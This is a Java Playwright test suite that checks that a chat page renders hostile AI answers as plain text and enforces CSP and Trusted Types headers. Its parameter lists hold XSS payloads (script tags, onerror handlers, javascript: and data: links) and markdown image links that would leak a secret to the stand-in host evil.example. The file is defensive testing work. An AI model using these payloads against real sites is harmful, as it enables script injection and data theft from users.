package dev.turnstream.pages;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("An answer that means harm")
@ExtendWith(Stage.class)
class HostileAnswerTest {
  private static final String ECHO = "!emulate rate=0 ttft=0\nrepeat ";

  private final RunningServer server;
  private final Chromium chromium;
  private Visitor visitor;

  HostileAnswerTest(Chromium chromium, RunningServer server) {
    this.chromium = chromium;
    this.server = server;
  }

  @BeforeEach
  void visit() {
    visitor = Visitor.on(chromium, server).visit("/");
  }

  @AfterEach
  void leave() {
    visitor.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<svg onload=alert(1)><a href=\"javascript:alert(1)\">x</a></svg>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "**<b onmouseover=alert(1)>bold</b>**",
        "# <style>*{display:none}</style>",
        "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <script>alert(1)</script> | c |",
        "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<form action=https://evil.example><button>x</button></form>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
      })
  void staysText(String attack) {
    visitor.askAndWait(ECHO + attack);
    assertThat(visitor.answer().locator("img, script, svg, iframe, style, form, details, meta, b"))
        .hasCount(0);
    assertThat(visitor.answer()).containsText("<");
    assertThat(onlyKnownAttributes()).isTrue();
    visitor.assertCalm();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html,<script>alert(1)</script>)",
        "[click](vbscript:x)",
        "[click](file:///etc/passwd)",
        "[click](//evil.example)",
        "[click](java\tscript:alert(1))",
        "[click][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
      })
  void makesNoLinkThatLeadsAnywhereButTheWeb(String attack) {
    visitor.askAndWait(ECHO + attack);
    assertThat(visitor.answer()).not().isEmpty();
    assertThat(visitor.answer().locator("a")).hasCount(0);
    visitor.assertCalm();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![secret](https://evil.example/?q=secret)",
        "![secret][1]\n\n[1]: https://evil.example/?q=secret",
        "[![secret](https://evil.example/?q=secret)](https://evil.example/)",
        "https://evil.example/?q=secret",
      })
  void fetchesNothingFromElsewhere(String attack) {
    visitor.askAndWait(ECHO + attack);
    assertThat(visitor.answer()).containsText("secret");
    assertThat(visitor.answer().locator("img")).hasCount(0);
    visitor.assertCalm();
  }

  @Test
  void linksToTheWebWithoutHandingTheWindowOver() {
    visitor.askAndWait(ECHO + "[a link](https://example.org/?a=1)");
    var link = visitor.answer().locator("a");
    assertThat(link).hasText("a link");
    assertThat(link).hasAttribute("href", "https://example.org/?a=1");
    assertThat(link).hasAttribute("target", "_blank");
    assertThat(link).hasAttribute("rel", "noopener noreferrer nofollow");
    assertThat(link).hasAttribute("title", "https://example.org/?a=1");
  }

  @Test
  void wouldMeetAPolicyThatForbidsMarkupAndOtherHosts() {
    visitor.page.evaluate(
        "window.broken = []; addEventListener('securitypolicyviolation', it =>"
            + " broken.push(it.effectiveDirective))");
    visitor.page.evaluate(
        "try { document.body.innerHTML = '<b>' } catch (e) { window.refused = e.name }");
    assertThat(visitor.page.evaluate("window.refused")).isEqualTo("TypeError");
    visitor.page.evaluate(
        "document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png' }));"
            + " fetch('https://evil.example/').catch(() => {})");
    visitor.page.waitForCondition(
        () -> visitor.page.evaluate("broken.join()").toString().contains("connect-src"));
    assertThat(visitor.page.evaluate("broken.join()").toString())
        .contains("require-trusted-types-for", "img-src", "connect-src");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/",
        "/ops",
        "/tutorial",
        "/assets/chat/chat.js",
        "/assets/ops.js",
        "/assets/favicon.svg",
        "/libraries/markdown.js"
      })
  void isHeldByTheSameHeadersOnEveryPage(String path) throws IOException, InterruptedException {
    var headers = get(path).headers();
    assertThat(headers.firstValue("content-security-policy").orElse(""))
        .contains(
            "default-src 'none'",
            "script-src 'self'",
            "style-src 'self'",
            "base-uri 'none'",
            "form-action 'none'",
            "frame-ancestors 'none'",
            "require-trusted-types-for 'script'",
            path.equals("/") ? "trusted-types dompurify" : "trusted-types 'none'")
        .doesNotContain("unsafe", "https:", "*");
    assertThat(headers.firstValue("x-content-type-options")).hasValue("nosniff");
    assertThat(headers.firstValue("referrer-policy")).hasValue("no-referrer");
  }

  @ParameterizedTest(name = "{0} makes no markup of text")
  @ValueSource(strings = {"/", "/ops", "/tutorial"})
  void isHeldByTrustedTypes(String path) {
    visitor.visit(path);
    var refused =
        visitor.page.evaluate(
            """
            () => ["innerHTML", "outerHTML"].map((name) => {
              try {
                document.body.appendChild(document.createElement("p"))[name] = "<img src=x onerror=alert(1)>";
                return "done";
              } catch ({ name: error }) {
                return error;
              }
            }).join()\
            """);
    assertThat(refused).isEqualTo("TypeError,TypeError");
  }

  @Test
  @DisplayName("an error in the upstream's words stays text, as do a title and a file's name")
  void namesStayText() {
    var attack = "<img src=x onerror=alert(1)>";
    visitor.page.evaluate(
        """
        (name) => {
          const data = new DataTransfer();
          data.items.add(new File(["x"], name, { type: "text/plain" }));
          document.getElementById("message").dispatchEvent(new ClipboardEvent("paste", { bubbles: true, cancelable: true, clipboardData: data }));
        }\
        """,
        attack);
    assertThat(visitor.page.locator("#status")).containsText(attack);
    visitor.askAndWait("!emulate rate=0 error-after=2 message=\"" + attack + "\"\n" + attack);
    assertThat(visitor.problem()).isVisible();
    assertThat(visitor.page.locator("#title")).containsText(attack);
    assertThat(visitor.page.locator("#list a").first()).containsText("<img");
    assertThat(visitor.page.locator("img[onerror], body * script")).hasCount(0);
    visitor.assertCalm();
  }

  private boolean onlyKnownAttributes() {
    return (Boolean)
        visitor
            .answer()
            .evaluate(
                "it => [...it.querySelectorAll('*')].every(e => [...e.attributes].every(a =>"
                    + " ['class', 'dir', 'type', 'tabindex', 'href', 'title', 'target', 'rel',"
                    + " 'start'].includes(a.name)))");
  }

  private HttpResponse<String> get(String path) throws IOException, InterruptedException {
    try (var client = HttpClient.newHttpClient()) {
      return client.send(
          HttpRequest.newBuilder(URI.create(server.url(path))).build(),
          HttpResponse.BodyHandlers.ofString());
    }
  }
}
